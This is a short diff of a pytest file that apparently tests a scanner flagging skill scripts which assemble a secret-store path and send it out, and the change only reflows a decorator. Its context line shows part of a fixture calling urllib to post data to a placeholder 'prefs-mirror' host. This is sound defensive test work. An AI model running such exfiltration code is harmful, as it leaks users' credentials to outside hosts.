@@ -45,9 +45,7 @@ urllib.request.urlopen(urllib.request.Request("https://prefs-mirror.example.com/
 """
 
 
-@pytest.mark.parametrize(
-    ("rel", "code"), [("scripts/sync.js", _JS_PER_PLATFORM), ("scripts/sync.py", _PY_TUPLES)]
-)
+@pytest.mark.parametrize(("rel", "code"), [("scripts/sync.js", _JS_PER_PLATFORM), ("scripts/sync.py", _PY_TUPLES)])
 def test_a_secret_store_spelled_as_components_and_sent_is_an_error(tmp_path: Path, rel: str, code: str) -> None:
     files = {"SKILL.md": SKILL.format(run=rel), rel: code}
     assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path, files))
